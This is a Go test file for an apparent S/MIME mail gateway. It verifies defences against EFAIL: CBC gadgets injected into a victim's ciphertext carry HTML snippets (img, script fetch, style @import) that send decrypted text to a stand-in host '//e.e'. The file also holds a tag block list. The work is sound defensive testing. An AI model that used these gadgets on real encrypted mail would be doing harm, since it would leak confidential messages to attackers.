package gateway

import (
	"crypto/aes"
	"encoding/base64"
	"io"
	"mime"
	"mime/multipart"
	"mime/quotedprintable"
	"net/mail"
	"strings"
	"testing"

	"sealgate/internal/efail"
	"sealgate/smime"
	"sealgate/smime/cms"
)

// htmlVictim is a mail whose beginning everybody can guess, as of most mail.
const htmlVictim = "Content-Type: text/html\r\n\r\n<html><body><p>the secret text of this mail, longer than a few blocks of the cipher</p></body></html>\r\n"

// victim is somebody's encrypted mail as an attacker has seen it.
func (h *house) victim(entity string) *efail.Sealed {
	h.t.Helper()
	_, body, _ := strings.Cut(h.sealed("", entity, h.support), "\r\n\r\n")
	der, err := base64.StdEncoding.DecodeString(strings.Join(strings.Fields(body), ""))
	if err != nil {
		h.t.Fatal(err)
	}
	s, err := efail.Parse(der, entity[:aes.BlockSize])
	if err != nil {
		h.t.Fatal(err)
	}
	return s
}

// plaintext is what the gadget decrypts to: the attack works, were nobody there to
// stop it.
func (h *house) plaintext(der []byte) string {
	h.t.Helper()
	text := efail.Entity(der)
	m, err := smime.Open(h.t.Context(), strings.NewReader(text), int64(len(text)), smime.OpenOptions{
		Keys: []cms.DecryptionKey{{Certificate: h.support.Certificate, Key: h.support.Key}}, Spool: h.o.Spool,
	})
	if err != nil {
		h.t.Fatal(err)
	}
	defer m.Close()
	if m.Undecryptable != nil {
		return ""
	}
	b, err := io.ReadAll(m.Inner.Section())
	if err != nil {
		h.t.Fatal(err)
	}
	return string(b)
}

// inFront is the gadget that stands before all that was encrypted.
const inFront = "in front of the whole"

// TestEFAILGadgets: blocks that an attacker without a key has put into somebody's
// CBC ciphertext. They do decrypt; the mail is never valid, and with
// unauthenticated = "text" nothing of it is HTML or would fetch anything.
func TestEFAILGadgets(t *testing.T) {
	h := newHouse(t, func(o *Options) { o.On = Actions{"unauthenticated": TextMail} })
	victim := func() *efail.Sealed { return h.victim(htmlVictim) } // each is seen for the first time
	must := func(der []byte, err error) []byte {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		return der
	}
	for name, k := range map[string]struct {
		der  []byte
		want string // in the plaintext: the gadget works
	}{
		"image in the middle": {must(victim().Insert(3, "<img src=\"//e.e/", "?a=", "\">")), "<img src=\"//e.e/"},
		"text into a URL":     {must(victim().Insert(2, "<img alt='", "' src='//e.e/?")), "src='//e.e/?"},
		"script":              {must(victim().Insert(3, "<script>/*", "*/fetch('//e'+'", "')</script>")), "*/fetch('//e'+'"},
		"style":               {must(victim().Insert(3, "<style>/*", "*/@import'//e';", "</style>")), "*/@import'//e';"},
		inFront:               {must(victim().Prefix("Content-Type: te", "xt/html ;x=\"")), ""}, // rubbish in the header: mostly stopped there, else plain text
	} {
		if got := h.plaintext(k.der); !strings.Contains(got, k.want) {
			t.Errorf("%s: the gadget does not work: %q", name, got)
		}
		out := h.process(toSupport, crlfLines(strings.ReplaceAll(fromAnna, "\r\n", "\n")+efail.Entity(k.der)))
		if out.Disposition != Accept || h.header(out.text[0], "X-SMIME-Signature") == "valid" || h.header(out.text[0], "X-SMIME-Reason") == "" {
			t.Errorf("%s:\n%s", name, out.text[0])
		}
		h.fetchesNothing(name, out.text[0])
	}
	for n := 1; n < 6; n++ {
		der := must(victim().Cut(n))
		out := h.process(toSupport, crlfLines(strings.ReplaceAll(fromAnna, "\r\n", "\n")+efail.Entity(der)))
		if got := h.header(out.text[0], "X-SMIME-Encryption"); got != "undecryptable" {
			t.Errorf("%d blocks cut off: %s\n%s", n, got, out.text[0])
		}
	}
}

func crlfLines(s string) string {
	return strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\n", "\r\n")
}

// TestEFAILDirect: encrypted parts between pieces of HTML are never opened.
func TestEFAILDirect(t *testing.T) {
	h := newHouse(t)
	_, body, _ := strings.Cut(h.sealed("", plainText, h.support), "\r\n\r\n")
	der, err := base64.StdEncoding.DecodeString(strings.Join(strings.Fields(body), ""))
	if err != nil {
		t.Fatal(err)
	}
	for name, entity := range efail.Direct(efail.Entity(der)) {
		out := h.process(toSupport, crlfLines(strings.ReplaceAll(fromAnna, "\r\n", "\n")+entity))
		got := h.header(out.text[0], "X-SMIME-Encryption")
		if strings.Contains(out.text[0], "the secret text") || got != "partial" && name != "forwarded" || h.header(out.text[0], "X-SMIME-Signature") == "valid" {
			t.Errorf("%s: %s\n%s", name, got, out.text[0])
		}
	}
}

// fetchesNothing looks at every leaf, decoded by Go's own readers.
func (h *house) fetchesNothing(name, text string) {
	h.t.Helper()
	m, err := mail.ReadMessage(strings.NewReader(text))
	if err != nil {
		h.t.Fatal(err)
	}
	h.leaf(name, m.Header.Get("Content-Type"), m.Header.Get("Content-Transfer-Encoding"), m.Body)
}

func (h *house) leaf(name, kind, encoding string, r io.Reader) {
	h.t.Helper()
	media, params, err := mime.ParseMediaType(kind)
	if err != nil {
		media = "text/plain"
	}
	if strings.HasPrefix(media, "multipart/") {
		parts := multipart.NewReader(r, params["boundary"])
		for {
			p, err := parts.NextRawPart()
			if err != nil {
				return
			}
			h.leaf(name, p.Header.Get("Content-Type"), p.Header.Get("Content-Transfer-Encoding"), p)
		}
	}
	switch strings.ToLower(encoding) {
	case "base64":
		r = base64.NewDecoder(base64.StdEncoding, r)
	case "quoted-printable":
		r = quotedprintable.NewReader(r)
	}
	b, err := io.ReadAll(r)
	if err != nil {
		h.t.Fatalf("%s: %v", name, err)
	}
	if media != "text/plain" && media != "application/pkcs7-mime" {
		h.t.Errorf("%s: a part of type %s is left", name, media)
	}
	if name == inFront && media == "text/plain" {
		return // rubbish has ended the header: what follows never was HTML to anybody
	}
	for _, tag := range []string{"<img", "<script", "<style", "<iframe", "<html"} {
		if strings.Contains(strings.ToLower(string(b)), tag) {
			h.t.Errorf("%s: %s is left in %q", name, tag, b)
		}
	}
}
